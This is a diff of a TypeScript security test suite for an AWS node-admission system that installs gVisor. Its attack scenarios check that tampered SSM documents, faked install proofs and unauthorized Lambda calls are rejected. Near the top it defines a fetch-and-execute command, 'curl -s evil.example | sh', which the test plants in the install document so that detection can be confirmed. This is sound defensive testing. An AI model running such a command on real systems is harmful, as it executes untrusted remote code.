@@ -1,9 +1,9 @@
 import { strict as assert } from 'node:assert';
-import { ModelledMachine } from '../../packages/lab/machines.ts';
-import type { Script } from '../../packages/local-aws/agent.ts';
-import { Intruder } from '../attacks/intruder.ts';
-import { endless } from '../scenarios/slow.ts';
-import { on, type Scenario, Stage } from './stage.ts';
+import { ModelledMachine } from '../../../packages/lab/machines.ts';
+import type { Script } from '../../../packages/local-aws/agent.ts';
+import { Intruder } from '../../attacks/intruder.ts';
+import { endless } from '../slow.ts';
+import { on, Scenario, type ScenarioRun } from './scenario.ts';
 
 const planted = 'curl -s evil.example | sh';
 const minute = 60_000;
@@ -29,42 +29,44 @@ async function withDocument(
       return super.run(script);
     }
   }
-  const stage = await Stage.set(assembly, [], async () => new Watched());
+  const scenario = await Scenario.start(assembly, [], async () => new Watched());
   try {
-    const found = stage.world.services.ssm.documents().find(({ name }) => name.startsWith('airlock-gvisor-install-'));
+    const found = scenario.world.services.ssm
+      .documents()
+      .find(({ name }) => name.startsWith('airlock-gvisor-install-'));
     assert.ok(found, 'no document installs gVisor');
     const content = structuredClone(found.content);
     const [step] = content.mainSteps;
     assert.ok(step, 'the document has no step');
     (step.inputs['runCommand'] as string[]).unshift(planted);
-    await change(new Intruder(stage.world, rights), { Name: found.name, Content: JSON.stringify(content) });
-    const node = await stage.launch();
-    await stage.settle();
-    return { outcome: stage.outcome(node), scripts };
+    await change(new Intruder(scenario.world, rights), { Name: found.name, Content: JSON.stringify(content) });
+    const node = await scenario.launch();
+    await scenario.settle();
+    return { outcome: scenario.outcome(node), scripts };
   } finally {
-    await stage.strike();
+    await scenario.stop();
   }
 }
 
 /** Attacks that only code stops. */
 export const attackScenarios = {
   'a call that no row allows cancels nothing, ends nothing and lets nothing into service': on(
-    async (stage) => {
+    async (scenario) => {
       const hook = { name: 'airlock', heartbeatSeconds: 3_600, defaultResult: 'ABANDON' } as const;
-      stage.world.services.autoScaling.addGroup({ name: 'builders', tags: { 'airlock:runtime': 'gvisor' }, hook });
-      const node = await stage.launch({
+      scenario.world.services.autoScaling.addGroup({ name: 'builders', tags: { 'airlock:runtime': 'gvisor' }, hook });
+      const node = await scenario.launch({
         tags: { 'aws:autoscaling:groupName': 'builders' },
         without: ['karpenter.sh/nodepool'],
       });
-      await stage.pass(minute);
-      const attacker = new Intruder(stage.world, ['lambda:InvokeFunction']);
+      await scenario.pass(minute);
+      const attacker = new Intruder(scenario.world, ['lambda:InvokeFunction']);
       const { instanceId, launchedAt } = node;
       const key = { instanceId, launchedAt: new Date(launchedAt).toISOString() };
       await attacker.invoke('Cancellation', { key });
       for (const action of ['decide', 'replace', 'keep']) await attacker.invoke('Remediation', { action, key });
       for (const operation of ['CancelCommand', 'CompleteLifecycleAction', 'TerminateInstances'])
-        assert.equal(stage.done(operation), 0, `${operation} was called`);
-      assert.deepEqual(stage.timeline(node), ['Node Admitted', 'Command Sent']);
+        assert.equal(scenario.done(operation), 0, `${operation} was called`);
+      assert.deepEqual(scenario.timeline(node), ['Node Admitted', 'Command Sent']);
     },
     [],
     endless,
@@ -72,11 +74,11 @@ export const attackScenarios = {
   ),
 
   'a node that says it was installed something else has proven nothing': on(
-    async (stage) => {
-      const node = await stage.launch();
-      await stage.settle();
-      assert.equal(stage.outcome(node), 'proof-failed');
-      assert.deepEqual(stage.taints(node), ['airlock.dev/bootstrap', 'airlock.dev/quarantined']);
+    async (scenario) => {
+      const node = await scenario.launch();
+      await scenario.settle();
+      assert.equal(scenario.outcome(node), 'proof-failed');
+      assert.deepEqual(scenario.taints(node), ['airlock.dev/bootstrap', 'airlock.dev/quarantined']);
     },
     [],
     async () => new Liar(),
@@ -101,4 +103,4 @@ export const attackScenarios = {
     assert.equal(outcome, 'document-changed');
     assert.deepEqual(scripts, []);
   },
-} as const satisfies Readonly<Record<string, Scenario>>;
+} as const satisfies Readonly<Record<string, ScenarioRun>>;
